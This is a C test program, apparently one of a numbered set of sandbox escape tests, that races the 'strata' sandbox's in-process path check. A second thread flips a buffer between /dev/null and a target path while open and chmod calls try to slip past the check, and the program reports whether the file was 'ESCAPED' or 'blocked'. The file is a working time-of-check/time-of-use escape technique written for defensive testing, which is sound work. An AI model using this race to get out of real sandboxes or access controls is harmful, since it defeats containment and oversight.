/* Attack 12: race strata's in-process check. strata reads the path from the
 * program's memory to decide, then the kernel reads it again to act. A
 * second thread flips a buffer between "/dev/null" (which
 * builtin:read-only-fs lets the program open for writing) and a path in
 * DIR, while the main thread keeps calling, through plain libc:
 *   open(buf, O_WRONLY|O_CREAT)  (DIR/raced must not come into being:
 *                                 Landlock checks what the kernel acts on);
 *   chmod(buf, 0666)             (DIR/racemeta, mode 0644, must keep it;
 *                                 0666 is /dev/null's own mode, so the
 *                                 allowed call changes nothing there).
 * No gadget: what strata checked and what the kernel did differ only by
 * the race. The program reports which calls were refused; the test can
 * compare with strata's log.
 * Usage: toctou DIR (holding racemeta, mode 0644) */
#include "attack.h"
#include <pthread.h>

static char buf[4096];
static char target[4096];
static volatile int stop;

static void *flipper(void *unused) {
    (void)unused;
    while (!stop) {
        strcpy(buf, target);
        strcpy(buf, "/dev/null");
    }
    return NULL;
}

static void race(const char *name) {
    snprintf(target, sizeof target, "%s", name);
    strcpy(buf, "/dev/null");
    stop = 0;
}

int main(int argc, char **argv) {
    if (argc < 2)
        setup_failed("usage: toctou DIR");
    char raced[4096], meta[4096];
    snprintf(raced, sizeof raced, "%s/raced", argv[1]);
    snprintf(meta, sizeof meta, "%s/racemeta", argv[1]);
    struct stat st;
    if (stat(meta, &st) != 0 || (st.st_mode & 07777) != 0644)
        setup_failed("DIR/racemeta (mode 0644) must exist");
    int esc = 0;
    pthread_t t;

    race(raced);
    if (pthread_create(&t, NULL, flipper, NULL) != 0)
        setup_failed("pthread_create");
    int made = 0, opened = 0, denied = 0;
    for (int i = 0; i < 20000 && !made; i++) {
        int fd = open(buf, O_WRONLY | O_CREAT, 0644);
        if (fd >= 0) {
            opened++;
            close(fd);
        } else
            denied++;
        made = stat(raced, &st) == 0;
    }
    stop = 1;
    pthread_join(t, NULL);
    printf("racing open(/dev/null <-> %s, O_WRONLY|O_CREAT): %d opened, %d refused; %s %s -> %s\n", raced, opened,
           denied, raced, made ? "was created" : "does not exist", made ? "ESCAPED" : "blocked");
    esc |= made;

    race(meta);
    if (pthread_create(&t, NULL, flipper, NULL) != 0)
        setup_failed("pthread_create");
    int changed = 0, ok = 0;
    denied = 0;
    for (int i = 0; i < 20000 && !changed; i++) {
        if (chmod(buf, 0666) == 0)
            ok++;
        else
            denied++;
        changed = stat(meta, &st) == 0 && (st.st_mode & 07777) != 0644;
    }
    stop = 1;
    pthread_join(t, NULL);
    printf("racing chmod(/dev/null <-> %s, 0666): %d done, %d refused; %s mode is %o -> %s\n", meta, ok, denied, meta,
           st.st_mode & 07777, changed ? "ESCAPED" : "blocked");
    esc |= changed;
    return verdict(esc);
}
